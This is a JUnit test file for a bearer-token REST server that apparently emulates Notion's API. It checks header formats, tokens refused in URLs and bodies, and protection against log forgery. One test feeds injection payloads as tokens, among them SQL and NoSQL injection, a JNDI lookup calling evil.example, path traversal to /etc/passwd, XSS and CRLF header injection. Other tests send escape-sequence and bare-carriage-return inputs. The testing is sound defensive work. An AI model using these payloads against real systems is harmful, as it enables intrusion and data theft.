package dev.keywright.server.wire;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** How a token is shown to the REST endpoints (RFC 6750), and what is not one. */
class BearerTest {
    @AutoClose
    private static final TestServer SERVER = TestServer.emulate();

    @AutoClose
    private static final TestServer STANDARD = TestServer.emulate("dialect", "standard");

    private static final String FORMAT = "Authorization header must use the format \"Bearer <token>\".";
    private static final String INVALID = "API token is invalid.";

    private static Reply me(String authorization) {
        return SERVER.get(Flow.ME)
                .header("Authorization", authorization)
                .version("2022-06-28")
                .send();
    }

    /** F7: any case of the scheme, any space between. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"Bearer TOKEN", "bearer TOKEN", "BEARER TOKEN", "Bearer   TOKEN", "Bearer \t TOKEN"})
    void theSchemeIsWrittenAnyWay(String header) {
        String token = Flow.of(SERVER).tokens().access();

        assertThat(me(header.replace("TOKEN", token)).status()).isEqualTo(200);
    }

    /** F7 */
    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "Bearer",
                "Bearer ",
                "Bearer TOKEN more",
                "Bearer TOKEN TOKEN",
                "TOKEN",
                "Basic TOKEN",
                "BearerTOKEN",
                "Bearer: TOKEN",
                "Token TOKEN",
                "Bearer TOKEN, Bearer TOKEN",
            })
    void anotherFormatIsRefusedAsOne(String header) {
        String token = Flow.of(SERVER).tokens().access();

        Reply reply = me(header.replace("TOKEN", token));

        assertThat(reply.status()).isEqualTo(401);
        assertThat(reply.field("message")).isEqualTo(FORMAT);
    }

    /** F7: of two tokens none counts. */
    @Test
    void twoAuthorizationHeadersAreRefused() {
        Flow flow = Flow.of(SERVER);

        Reply reply = SERVER.get(Flow.ME)
                .bearer(flow.tokens().access())
                .bearer(flow.tokens().access())
                .version("2022-06-28")
                .send();

        assertThat(reply.status()).isEqualTo(401);
    }

    /** F7 and C9: a token in a URL is a token in a log. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"access_token", "token", "bearer", "authorization"})
    void aTokenInTheQueryIsNotLookedAt(String name) {
        String token = Flow.of(SERVER).tokens().access();

        Reply reply = SERVER.get(Flow.ME + "?" + name + "=" + token)
                .version("2022-06-28")
                .send();

        assertThat(reply.status()).isEqualTo(401);
        assertThat(SERVER.terminal()).doesNotContain(token);
    }

    /** F7 */
    @Test
    void aTokenInTheBodyIsNotLookedAt() {
        String token = Flow.of(SERVER).tokens().access();

        Reply reply = SERVER.get(Flow.ME)
                .body("application/x-www-form-urlencoded", "access_token=" + token)
                .send();

        assertThat(reply.status()).isEqualTo(401);
    }

    /** F7: RFC 6750 §3 wants a challenge, Notion sends none. */
    @Test
    void onlyTheStandardDialectChallenges() {
        assertThat(SERVER.get(Flow.ME).send().all("www-authenticate")).isEmpty();
        assertThat(STANDARD.get(Flow.ME).send().header("www-authenticate")).isEqualTo("Bearer");
    }

    /** F8: what opens the token endpoint opens nothing else (RFC 9700 §4.10). */
    @Test
    void aRefreshTokenAndACodeAreNoBearerTokens() {
        Flow flow = Flow.of(SERVER);
        Pair pair = flow.tokens();
        String code = flow.code();

        for (String token :
                new String[] {pair.refresh(), code, "ntn_" + pair.refresh().substring(4)}) {
            Reply reply = flow.me(token);
            assertThat(reply.status()).isEqualTo(401);
            assertThat(reply.field("message")).isEqualTo(INVALID);
        }
        assertThat(flow.exchange(code).status()).isEqualTo(200);
    }

    /** F10 */
    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "'or'1'='1",
                "';drop/**/table/**/authorizations;--",
                "{\"$ne\":null}",
                "%0d%0aSet-Cookie:x",
                "${jndi:ldap://evil.example/x}",
                "../../../etc/passwd",
                "<script>alert(1)</script>",
                "%s%n%x",
            })
    void aTokenThatTriesSomethingIsAnUnknownToken(String token) {
        Reply reply = me("Bearer " + token);

        assertThat(reply.status()).isEqualTo(401);
        assertThat(reply.field("message")).isEqualTo(INVALID);
    }

    /** F10: a line of the terminal stays one line, whatever a client puts into what it shows. */
    @Test
    void whatAClientSendsCannotForgeALineOfTheTerminal() {
        SERVER.post(Flow.TOKEN)
                .basic("x\r\nrefused forged \u2028 \u001b[31m", "y")
                .json("{}")
                .send();
        Flow.of(SERVER).token(java.util.Map.of("grant_type", "a\nrefused forged"));

        assertThat(SERVER.terminal().lines()).noneMatch(line -> line.startsWith("refused forged"));
        assertThat(SERVER.terminal()).doesNotContain("\u001b", "\u2028");
    }

    /** F10: a bare carriage return in a header is not a header (RFC 9112 §2.2). */
    @Test
    void aBareCarriageReturnInAHeaderIsRefused() throws IOException {
        try (Wire wire = new Wire(SERVER.port())) {
            String answer = wire.send("GET /v1/users/me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer a\rX: y\r\n\r\n")
                    .untilClosed();

            assertThat(answer).startsWith("HTTP/1.1 400 ");
        }
    }
}
